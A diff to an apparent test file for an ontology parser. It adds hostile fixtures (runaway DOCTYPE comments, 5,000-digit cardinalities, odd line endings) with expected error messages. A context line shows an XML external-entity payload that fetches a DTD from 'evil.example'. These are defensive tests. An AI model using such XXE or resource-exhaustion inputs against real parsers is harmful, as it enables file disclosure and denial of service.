@@ -82,6 +82,19 @@ _HOSTILE: dict[str, tuple[bytes, str]] = {
         b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><rdf:RDF/>',
         "the entity 'p' lies in another file",
     ),
+    "doctype.owl": (b"<!DOCTYPE r [" + b"<!---->" * 5000, "ends in the middle|this is no XML"),
+    "count.ofn": (
+        b"Ontology(SubClassOf(<urn:a>\n ObjectMinCardinality(" + b"9" * 5000 + b" <urn:p>)))",
+        "line 2, column 23: expected a whole number of at most 18 digits",
+    ),
+    "count.owx": (
+        b"<Ontology xmlns='http://www.w3.org/2002/07/owl#'>\n<SubClassOf><Class IRI='urn:a'/>"
+        b"<ObjectMinCardinality cardinality='"
+        + b"9" * 5000
+        + b"'><ObjectProperty IRI='urn:p'/></ObjectMinCardinality>",
+        "line 2, column 33: .* a whole number of at most 18 digits",
+    ),
+    "mac.owl": (_xml("<e:A>\n</e:B>").replace(b"\n", b"\r"), "line 4, column 3: .*<e:A> of line 3 is still open"),
     "undeclared.owl": (_xml("<e:A rdf:about='&shop;a'/>"), "line 3, column 1: .*an entity that is not declared"),
     "deep.ofn": (
         b"Ontology(SubClassOf(\n" + b"ObjectComplementOf(" * _DEEP + b")" * _DEEP + b"))",
@@ -180,9 +193,10 @@ _PROBLEMS: dict[str, tuple[str, str, str]] = {
         "no condition binds the arguments of equal",
     ),
     "unknown built-in": (
-        f"DLSafeRule(Body(ClassAtom(:A {_X}) BuiltInAtom(<urn:mine#lucky> {_X})) Head(ClassAtom(:B {_X})))",
+        f"DLSafeRule(Body(ClassAtom(:A {_X}) BuiltInAtom(<http://www.w3.org/2003/11/swrlb#lucky> {_X})) "
+        f"Head(ClassAtom(:B {_X})))",
         "RULE",
-        "uses the unknown built-in urn:mine#lucky; known: abs, add",
+        "uses the unknown built-in http://www.w3.org/2003/11/swrlb#lucky; known: abs, add",
     ),
     "too few arguments": (
         f"DLSafeRule(Body(DataPropertyAtom(:d {_X} {_V}) BuiltInAtom(<http://www.w3.org/2003/11/swrlb#greaterThan> "
@@ -203,7 +217,11 @@ _PROBLEMS: dict[str, tuple[str, str, str]] = {
     ),
     "empty rule": ("DLSafeRule(Body() Head())", "RULE", "says nothing; give it a body or a head"),
     "circle of classes": ("SubClassOf(:A :B) SubClassOf(:B :A)", "CYCLE", "A -> B -> A"),
-    "disjoint with its superclass": ("SubClassOf(:A :B) DisjointClasses(:A :B)", "UNSATISFIABLE", "nothing can be a A"),
+    "disjoint with its superclass": (
+        "SubClassOf(:A :B) DisjointClasses(:A :B)",
+        "UNSATISFIABLE",
+        "A can have no member",
+    ),
     "one label for two": (f'{_LABEL} :A "同"@zh) {_LABEL} :B "同"@zh)', "SAME_LABEL", "are both called '同'"),
     "no label": ("Declaration(Class(:Silent))", "MISSING_LABEL", "Silent has no rdfs:label in zh and en"),
     "misspelt class": ("SubClassOf(:AA :B)", "UNDECLARED", "t#AA> is used in SubClassOf(AA B) and declared nowhere"),
